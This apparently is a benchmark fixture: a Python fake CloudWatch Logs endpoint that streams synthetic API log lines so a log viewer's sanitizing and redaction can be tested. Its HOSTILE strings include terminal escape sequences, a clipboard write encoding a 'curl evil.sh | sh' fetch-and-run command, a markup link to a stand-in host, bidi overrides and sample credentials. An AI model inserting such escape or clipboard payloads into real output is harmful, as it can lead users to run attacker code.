"""A fake CloudWatch Logs endpoint that streams generated API log lines at a fixed rate.

Run it as a process of its own (its CPU must not count as the cockpit's):
`.venv/bin/python -m bench.fake_logs_endpoint --rate 10000` prints `listening on HOST:PORT`
once it is up, then serves until killed. boto3 reaches it with `AWS_ENDPOINT_URL`.

- `Logs_20140328.FilterLogEvents` (JSON 1.1): the events with `timestamp >= startTime`
  whose message contains `filterPattern` (a plain, case-sensitive substring; empty: all),
  in pages of at most `limit`, 10,000 events or about 1 MB, with a `nextToken` for the rest
  like AWS. An event becomes visible at its `ingestionTime`, which is its timestamp plus a
  delay drawn per event from `--delay MIN MAX` (default 0.2-3 s, uniform): a pass sees the
  events ingested by its first page (the token pins the end seq and that ingestion
  cut-off), so late events with old timestamps appear between passes, as in CloudWatch.
  At the end of the data the answer has no `nextToken` at all (see bench/README.md for
  how that compares with AWS's documented behaviour).
- `DescribeAlarms` of CloudWatch, in each protocol botocore may speak (JSON 1.0, RPC v2
  CBOR, query): no alarms, so the alarms watcher stays quiet.
- `GET /stats`: what was generated and served, as JSON (events served per filter pattern
  counted once each, so they can be checked against the cockpit's received counts; events
  served again (re-reads); events a pattern's reader was never served before they were
  dropped from the ring (`missed`: lost); and how many seconds of generated events each
  pattern's reader has not been served yet).
- Anything else: a JSON 400 error.

Events: `--rate` a second in total (generation starts with the first FilterLogEvents
request: the log group has no history to page through), over `--streams` streams named
`ecs/avnz-api/<32 hex>`, timestamps the generation time in ms (several events per ms),
unique eventIds, kept for `--keep-seconds`. Messages are 100-200 character API log lines;
about 48 % contain "Redis" and 48 % "momentum" (a quarter of the Redis lines also name a
`/momentum` path, so the two filters together match ~1.1x the events generated; 3 % match
neither), and `--hostile` (3 %) carry escape
sequences, OSC title/clipboard writes, Rich markup, an AWS key id, a bearer token or a URL
with a password, so the cockpit's sanitizing and redaction do real work.
"""

from __future__ import annotations

import argparse
import bisect
import json
import random
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MAX_PAGE_EVENTS = 10_000
MAX_PAGE_BYTES = 1_000_000  # AWS: "up to 1 MB (up to 10,000 log events)"
TICK = 0.01  # generation granularity, s
POOL = 20_000  # distinct message bodies; each event still gets its own time and id

PATHS = ("/api/v1/payments", "/api/v1/payments/{id}", "/api/v1/merchants/{id}/momentum", "/api/v1/vendors/companies",
         "/api/v1/sessions/{id}", "/api/v1/integrations/{id}/sync", "/api/v1/reports/momentum", "/health")
METHODS = ("GET", "GET", "GET", "POST", "PUT", "DELETE")
STATUSES = (200, 200, 200, 200, 201, 204, 304, 400, 404, 500, 503)

HOSTILE = (
    "\x1b[31;1mRedis ERROR\x1b[0m connection reset by peer \x1b]0;owned-title\x07 host=cache-1 attempt={n}",
    "momentum score job \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 clipboard write \x1b[2J\x1b[H cleared? id={rid}",
    "[bold red]momentum[/bold red] [link=http://evil.example]click[/link] markup in a log line id={rid}",
    "Redis client init AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE region=us-east-1 pool=cache-{n}",
    "momentum upstream call failed Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl status=401",
    "Redis connecting to redis://default:hunter2-{n}@cache.internal:6379/0 tls=off\r\n\tretrying in 2s",
    "momentum \u202egnirts desrever\u202c bidi override and a C1 CSI \x9b31m here id={rid}",
)


def _hex(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def message_bodies(rng: random.Random, count: int, hostile: float) -> list[str]:
    """`count` API log line bodies (after the timestamp), 100-200 characters each."""
    bodies = []
    for _ in range(count):
        rid = f"{_hex(rng, 8)}-{_hex(rng, 4)}-{_hex(rng, 4)}-{_hex(rng, 4)}-{_hex(rng, 12)}"
        n = rng.randrange(1, 10_000)
        if rng.random() < hostile:
            body = "WARN " + rng.choice(HOSTILE).format(n=n, rid=rid)
        else:
            method, status = rng.choice(METHODS), rng.choice(STATUSES)
            path = rng.choice(PATHS).format(id=rng.randrange(1000, 99_999))
            level = "ERROR" if status >= 500 else "WARN" if status >= 400 else "INFO"
            head = f"{level} [{rid}] {method} {path} {status} {rng.uniform(0.4, 900):.1f}ms"
            roll = rng.random()
            if roll < 0.485:
                tail = rng.choice((
                    f"RedisCache hit key=session:{_hex(rng, 12)} get={rng.uniform(0.05, 3):.2f}ms pool=cache-{n % 8}",
                    f"Redis GET merchant:{n}:limits miss, loaded from db in {rng.uniform(1, 40):.1f}ms",
                    f"Redis pipeline {rng.randrange(2, 40)} cmds {rng.uniform(0.1, 9):.2f}ms conn={n % 32}/32 idle={n % 7}",
                ))
            elif roll < 0.97:
                tail = rng.choice((
                    f"momentum score={rng.random():.3f} merchant={n} window=15m features={rng.randrange(5, 60)}",
                    f"momentum flag on for vendor {n}: recompute took {rng.uniform(1, 300):.1f}ms rows={rng.randrange(1, 5000)}",
                    f"feature=momentum cohort={n % 13} variant={'AB'[n % 2]} decision={'allow' if n % 3 else 'hold'}",
                ))
            else:
                tail = f"db query vendors.list rows={rng.randrange(0, 500)} took {rng.uniform(0.3, 60):.1f}ms user={n}"
            body = f"{head} {tail}"
        body = body[:176]
        if len(body) < 76:
            body += " " + "ctx=" + _hex(rng, 76 - len(body))
        bodies.append(body)
    return bodies


@dataclass
class Batch:
    """Events generated in one tick: parallel lists, seq numbers first_seq, first_seq+1, ..."""

    first_seq: int
    timestamps: list[int]
    messages: list[str]
    fragments: list[str]  # each event pre-serialized as a JSON object
    ingested: list[int]  # ingestionTime of each event (ms): not visible before it

    @property
    def end_seq(self) -> int:
        return self.first_seq + len(self.timestamps)


@dataclass
class Stats:
    """Counters, updated under the log's lock."""

    generated: int = 0
    requests: dict[str, int] = field(default_factory=dict)
    pages: int = 0
    events_served: int = 0  # with the re-reads of the overlap
    bytes_served: int = 0
    unique_served: dict[str, int] = field(default_factory=dict)  # per filter pattern, each event once
    served_upto: dict[str, int] = field(default_factory=dict)  # per pattern: 1 + highest seq served
    missed: dict[str, int] = field(default_factory=dict)  # per pattern: matching events dropped never served
    started_at: float | None = None


class EventLog:
    """The generated log group: a ring of batches, filled by a thread at `rate` events a second."""

    def __init__(self, rate: float, streams: int, keep_seconds: float, hostile: float, seed: int = 1,
                 delay: tuple[float, float] = (0.2, 3.0)) -> None:
        rng = random.Random(seed)
        self.rate = rate
        self.delay_ms = (int(delay[0] * 1000), int(delay[1] * 1000))
        self._delay_rng = random.Random(seed + 1)
        self.served: dict[str, bytearray] = {}  # per pattern: 1 at seq when that event was served (each event once)
        self.first_seq: dict[str, int] = {}  # per pattern: the newest seq when its reader first asked
        self.keep_ms = int(keep_seconds * 1000)
        self.streams = [f"ecs/avnz-api/{_hex(rng, 32)}" for _ in range(streams)]
        self.bodies = message_bodies(rng, POOL, hostile)
        self.batches: list[Batch] = []
        self.lock = threading.Lock()
        self.stats = Stats()
        self.started = threading.Event()
        self._next_seq = 0
        self._next_body = 0

    # -- generation ---------------------------------------------------------------------
    def run(self) -> None:
        """Generate until the process ends (a daemon thread), from the first request on."""
        self.started.wait()
        t0 = time.time()
        with self.lock:
            self.stats.started_at = t0
        made, last_ms = 0, int(t0 * 1000)
        while True:
            time.sleep(TICK)
            now = time.time()
            due = int((now - t0) * self.rate) - made
            now_ms = int(now * 1000)
            if due > 0:
                batch = self._batch(due, last_ms, now_ms)
                made += due
                with self.lock:
                    self.batches.append(batch)
                    self.stats.generated += due
                    self._trim(now_ms)
            last_ms = now_ms

    def _batch(self, count: int, from_ms: int, to_ms: int) -> Batch:
        """`count` events stamped evenly over (from_ms, to_ms]: several per ms at high rates."""
        first = self._next_seq
        self._next_seq += count
        span = max(1, to_ms - from_ms)
        timestamps, messages, fragments, ingested = [], [], [], []
        low, high = self.delay_ms
        delay = self._delay_rng.randint
        iso_second, iso_text = -1, ""
        for i in range(count):
            ts = from_ms + 1 + (i * span) // count
            seq = first + i
            second, ms = divmod(ts, 1000)
            if second != iso_second:
                iso_second, iso_text = second, time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(second))
            body = self.bodies[self._next_body]
            self._next_body = (self._next_body + 1) % len(self.bodies)
            message = f"{iso_text}.{ms:03d}Z {body}"
            stream = self.streams[seq % len(self.streams)]
            event_id = f"{ts:020d}{seq % len(self.streams):04d}{seq:032d}"  # 56 digits, like AWS
            ingestion = ts + (delay(low, high) if high > low else low)
            timestamps.append(ts)
            messages.append(message)
            ingested.append(ingestion)
            fragments.append(
                f'{{"logStreamName":"{stream}","timestamp":{ts},"message":{json.dumps(message)},'
                f'"ingestionTime":{ingestion},"eventId":"{event_id}"}}'
            )
        return Batch(first, timestamps, messages, fragments, ingested)

    def _trim(self, now_ms: int) -> None:
        horizon = now_ms - self.keep_ms
        drop = 0
        while drop < len(self.batches) - 1 and self.batches[drop].timestamps[-1] < horizon:
            drop += 1
        if drop:
            for batch in self.batches[:drop]:
                self._count_missed(batch)
            del self.batches[:drop]

    def _count_missed(self, batch: Batch) -> None:
        """Count, per pattern being read, the events of a batch about to be dropped that it was never served."""
        for pattern, served in self.served.items():
            if batch.first_seq < self.first_seq[pattern]:
                continue
            missed = sum(1 for i, message in enumerate(batch.messages)
                         if pattern in message and not _served(served, batch.first_seq + i))
            if missed:
                self.stats.missed[pattern] = self.stats.missed.get(pattern, 0) + missed

    # -- reading --------------------------------------------------------------------------
    def _first_seq_at(self, start_ms: int) -> int:
        """Seq of the first kept event with timestamp >= start_ms."""
        for batch in self.batches:
            if batch.timestamps[-1] >= start_ms:
                return batch.first_seq + bisect.bisect_left(batch.timestamps, start_ms)
        return self._next_seq

    def page(self, start_ms: int, pattern: str, token: str | None, limit: int) -> tuple[str, str | None]:
        """One FilterLogEvents response body, and its nextToken (None at the end of the pass)."""
        self.started.set()
        with self.lock:
            if token:
                seq, end, cutoff = (int(part) for part in token.split("-"))
            else:
                seq, end, cutoff = self._first_seq_at(start_ms), self._next_seq, int(time.time() * 1000)
            batches = self.batches
            index = max(0, bisect.bisect_right(batches, seq, key=lambda b: b.first_seq) - 1)
            if pattern not in self.served:
                self.served[pattern] = bytearray()
                self.first_seq[pattern] = self._next_seq
            served = self.served[pattern]
        # Batches are never changed once appended; the list is only trimmed at the front.
        picked: list[str] = []
        size, fresh, last_seq = 0, 0, -1
        new_seqs: list[int] = []
        cap = min(limit, MAX_PAGE_EVENTS)
        next_token = None
        for batch in batches[index:]:
            if batch.first_seq >= end:
                break
            lo = max(0, seq - batch.first_seq)
            hi = min(len(batch.timestamps), end - batch.first_seq)
            messages, timestamps, fragments, ingested = batch.messages, batch.timestamps, batch.fragments, batch.ingested
            for i in range(lo, hi):
                if pattern in messages[i] and timestamps[i] >= start_ms and ingested[i] <= cutoff:
                    if len(picked) >= cap or size >= MAX_PAGE_BYTES:
                        next_token = f"{batch.first_seq + i}-{end}-{cutoff}"
                        break
                    picked.append(fragments[i])
                    size += len(fragments[i]) + 1
                    last_seq = batch.first_seq + i
                    if not _served(served, last_seq):
                        new_seqs.append(last_seq)
            if next_token:
                break
        body = '{"events":[' + ",".join(picked) + '],"searchedLogStreams":[]'
        body += f',"nextToken":"{next_token}"}}' if next_token else "}"
        with self.lock:
            s = self.stats
            s.pages += 1
            s.events_served += len(picked)
            s.bytes_served += len(body)
            for seq in new_seqs:  # a concurrent page of the same pattern may have served some meanwhile
                if not _served(served, seq):
                    _mark(served, seq)
                    fresh += 1
            if fresh:
                s.unique_served[pattern] = s.unique_served.get(pattern, 0) + fresh
            if last_seq >= 0:
                s.served_upto[pattern] = max(s.served_upto.get(pattern, 0), last_seq + 1)
        return body, next_token

    def snapshot(self) -> dict:
        with self.lock:
            s = self.stats
            return {"time": time.time(), "started_at": s.started_at, "rate": self.rate, "generated": s.generated,
                    "requests": dict(s.requests), "pages": s.pages, "events_served": s.events_served,
                    "bytes_served": s.bytes_served, "unique_served": dict(s.unique_served),
                    "missed": {p: s.missed.get(p, 0) for p in self.served},
                    "delay_ms": list(self.delay_ms),
                    "kept_events": sum(len(b.timestamps) for b in self.batches),
                    # how far each filter's reader is behind generation: events since the newest it was served, in seconds
                    "seconds_behind": {p: round((self._next_seq - upto) / self.rate, 2) if self.rate else 0.0
                                       for p, upto in s.served_upto.items()}}


def _served(bits: bytearray, seq: int) -> bool:
    return seq >> 3 < len(bits) and bool(bits[seq >> 3] & (1 << (seq & 7)))


def _mark(bits: bytearray, seq: int) -> None:
    if seq >> 3 >= len(bits):
        bits.extend(bytes(max(1 << 16, (seq >> 3) + 1 - len(bits))))
    bits[seq >> 3] |= 1 << (seq & 7)


# CBOR of {"MetricAlarms": [], "CompositeAlarms": []}: a map of 2, text(12), array(0), text(15), array(0)
NO_ALARMS_CBOR = b"\xa2" + b"\x6c" + b"MetricAlarms" + b"\x80" + b"\x6f" + b"CompositeAlarms" + b"\x80"
NO_ALARMS_XML = (b'<DescribeAlarmsResponse xmlns="http://monitoring.amazonaws.com/doc/2010-08-01/">'
                 b"<DescribeAlarmsResult><MetricAlarms/><CompositeAlarms/></DescribeAlarmsResult>"
                 b"<ResponseMetadata><RequestId>bench</RequestId></ResponseMetadata></DescribeAlarmsResponse>")


class Handler(BaseHTTPRequestHandler):
    """One connection (keep-alive, as botocore uses it)."""

    protocol_version = "HTTP/1.1"
    log: EventLog  # set on the subclass

    def log_message(self, format: str, *args: object) -> None:  # quiet: one line per request would swamp stderr
        pass

    def _send(self, status: int, body: bytes, content_type: str, extra: dict[str, str] | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("x-amzn-RequestId", "00000000-0000-0000-0000-000000000000")
        for name, value in (extra or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def _error(self, message: str, content_type: str = "application/x-amz-json-1.1") -> None:
        body = json.dumps({"__type": "InvalidParameterException", "message": message}).encode()
        self._send(400, body, content_type)

    def _count(self, name: str) -> None:
        with self.log.lock:
            self.log.stats.requests[name] = self.log.stats.requests.get(name, 0) + 1

    def do_GET(self) -> None:
        if self.path == "/stats":
            self._send(200, json.dumps(self.log.snapshot()).encode(), "application/json")
        else:
            self._count("GET other")
            self._error(f"no such path {self.path}", "application/json")

    def do_POST(self) -> None:
        raw = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        target = self.headers.get("X-Amz-Target", "")
        if target == "Logs_20140328.FilterLogEvents":
            self._count(target)
            self._filter(raw)
        elif target == "GraniteServiceVersion20100801.DescribeAlarms":
            self._count(target)
            self._send(200, b'{"MetricAlarms":[],"CompositeAlarms":[]}', "application/x-amz-json-1.0")
        elif self.path.endswith("/service/GraniteServiceVersion20100801/operation/DescribeAlarms"):
            self._count("cbor DescribeAlarms")
            self._send(200, NO_ALARMS_CBOR, "application/cbor", {"smithy-protocol": "rpc-v2-cbor"})
        elif b"Action=DescribeAlarms" in raw:
            self._count("query DescribeAlarms")
            self._send(200, NO_ALARMS_XML, "text/xml")
        else:
            self._count(f"other {target or self.path}")
            self._error(f"unsupported target {target!r} at {self.path}")

    def _filter(self, raw: bytes) -> None:
        try:
            request = json.loads(raw)
            start = int(request.get("startTime") or 0)
            pattern = str(request.get("filterPattern") or "")
            token = request.get("nextToken")
            limit = int(request.get("limit") or MAX_PAGE_EVENTS)
        except (ValueError, TypeError, AttributeError) as exc:
            self._error(f"bad request: {exc}")
            return
        body, _ = self.log.page(start, pattern, token, limit)
        self._send(200, body.encode(), "application/x-amz-json-1.1")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.fake_logs_endpoint", description=__doc__.split("\n\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0, help="0: any free port (printed)")
    parser.add_argument("--rate", type=float, default=10_000, help="events a second, all streams together (10000)")
    parser.add_argument("--streams", type=int, default=8, help="log streams (8)")
    parser.add_argument("--keep-seconds", type=float, default=60, help="events kept for re-reads (60)")
    parser.add_argument("--hostile", type=float, default=0.03, help="share of hostile messages (0.03)")
    parser.add_argument("--delay", type=float, nargs=2, default=(0.2, 3.0), metavar=("MIN", "MAX"),
                        help="ingestion delay of each event, uniform between MIN and MAX seconds (0.2 3)")
    args = parser.parse_args(argv)
    log = EventLog(args.rate, args.streams, args.keep_seconds, args.hostile, delay=tuple(args.delay))
    handler = type("BoundHandler", (Handler,), {"log": log})
    server = ThreadingHTTPServer((args.host, args.port), handler)
    server.daemon_threads = True
    threading.Thread(target=log.run, name="generate", daemon=True).start()
    print(f"listening on {args.host}:{server.server_address[1]}", flush=True)
    try:
        server.serve_forever(poll_interval=0.5)
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
